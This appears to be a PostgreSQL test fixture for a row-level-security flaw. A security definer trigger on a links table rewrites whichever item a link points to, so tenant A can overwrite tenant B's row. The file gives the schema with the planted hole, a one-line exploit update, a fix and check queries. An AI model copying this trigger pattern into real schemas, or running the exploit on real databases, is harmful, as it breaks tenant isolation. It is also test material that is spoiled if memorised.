-- What: A trigger with its owner's rights keeps a title up to date: it changes the item that the changed link names, whose ever it is.
-- Class: function_definer
-- Object: public.rename_item()
-- Exploit: A link of A's own is changed so that it names tenant B's item.
-- Source: denormalised titles kept by triggers
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
create table links (id bigint generated always as identity primary key, tenant_id uuid not null, item_id bigint, title text);
alter table links enable row level security;
alter table links force row level security;
create policy tenant on links using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, update on links to app_user;
-- @superuser
create function rename_item() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$
begin
  update public.items set body = new.title where id = new.item_id;
  return new;
end $$;
create trigger rename_item after update on links for each row execute function rename_item();
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
insert into links (tenant_id, item_id, title) values (:'A', 1, 'mine');
-- @fix
alter function rename_item() security invoker;
-- @control
select from items where tenant_id = :'A';
-- @exploit
update links set item_id = 2, title = 'stolen';
-- @look
select 1 from items where tenant_id = :'B' and body <> 'B-secret';
